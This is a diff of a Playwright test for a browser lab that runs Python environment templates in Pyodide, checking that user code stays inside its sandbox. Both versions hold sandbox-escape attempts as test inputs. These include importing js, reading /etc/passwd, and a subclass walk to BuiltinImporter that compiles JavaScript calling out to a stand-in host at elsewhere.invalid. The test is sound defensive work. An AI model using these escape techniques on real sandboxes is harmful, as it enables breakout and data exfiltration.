@@ -9,20 +9,10 @@ async function openTemplate(page: Page, name: string): Promise<void> {
   await ready(page);
 }
 
-/** A class whose step runs this code in line 7. */
-const stepping = (code: string) => `class One:
-    actions = ['go']
-    max_episode_steps = 3
-    def reset(self, seed):
-        return 'go', {}
-    def step(self, action):
-        ${code}
-        return 'go', 1, True, False, {}
-`;
-
-test('an agent learns the Python template in the page, and Python is loaded only for it', async ({
-  lab,
-}) => {
+// Python takes seconds of a core to load, so other tests would wait for these.
+test('an agent learns the Python template in the page, and Python is loaded only for it', {
+  tag: '@alone',
+}, async ({ lab }) => {
   const { page } = lab;
   const loaded: string[] = [];
   page.on('request', (request) => {
@@ -51,32 +41,61 @@ test('an agent learns the Python template in the page, and Python is loaded only
   await lab.photograph('code-trained-python');
 });
 
-/** Ways out of the sandbox; each is the code of line 7. */
-const escapes = [
-  'import js',
-  "from pyodide.http import open_url; open_url('https://elsewhere.invalid/')",
-  "open('/etc/passwd')",
-  // Reaches Python's own modules in spite of the restricted imports; they find nothing to call.
-  `[c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('sys').modules['pyodide.code'].run_js("fetch('https://elsewhere.invalid/')")`,
-  `[c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('sys').modules['pyodide.code'].run_js("indexedDB.open('left')")`,
-  `[c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0].load_module('sys').modules['pyodide.code'].run_js("import('https://elsewhere.invalid/a.js')")`,
-  'while True: pass',
-  'x = [0] * 10**9',
-];
+/**
+ * Code that tries ways out of the sandbox and raises what came of them in line 7. Some reach modules
+ * that may not be imported, and through them a function whose constructor compiles JavaScript.
+ */
+const escaping = `class One:
+    actions = ['go']
+    max_episode_steps = 3
+    def reset(self, seed):
+        return 'go', {}
+    def step(self, action):
+        raise ValueError(tried())
 
-test('Python code does not leave its sandbox, and the page says in which line it tried', async ({
-  lab,
-}) => {
+def javascript(code):
+    importer = [c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
+    modules = importer.load_module('sys').modules
+    modules['builtins'].__import__('pyodide_js').runPython.constructor(code)()
+
+def imported():
+    import js
+
+def opened():
+    from pyodide.http import open_url
+    open_url('https://elsewhere.invalid/')
+
+def tried():
+    ways = [
+        imported,
+        opened,
+        lambda: open('/etc/passwd'),
+        lambda: javascript("fetch('https://elsewhere.invalid/')"),
+        lambda: javascript("indexedDB.open('left')"),
+        lambda: javascript("import('https://elsewhere.invalid/a.js')"),
+    ]
+    results = []
+    for way in ways:
+        try:
+            way()
+            results.append('succeeded')
+        except Exception:
+            results.append('failed')
+    return 'tried: ' + ', '.join(results)
+`;
+
+test('Python code does not leave its sandbox, and the page says in which line it failed', {
+  tag: '@alone',
+}, async ({ lab }) => {
   const { page } = lab;
   await openTemplate(page, 'Guess the number (Python)');
   const requests: string[] = [];
   page.on('request', (request) => requests.push(request.url()));
-  for (const code of escapes) {
-    await write(page, stepping(code));
-    await expect(verdict(page)).toContainText('Line 7');
-    await failed(page);
-    await expect(train(page)).toBeDisabled();
-  }
+  await write(page, escaping);
+  await failed(page);
+  await expect(verdict(page)).toContainText('Line 7');
+  await expect(verdict(page)).toContainText('failed, failed, failed, failed, failed, failed');
+  await expect(train(page)).toBeDisabled();
   expect(requests.filter((url) => url.includes('elsewhere'))).toEqual([]);
   expect(
     await page.evaluate(async () => (await indexedDB.databases()).map(({ name }) => name)),
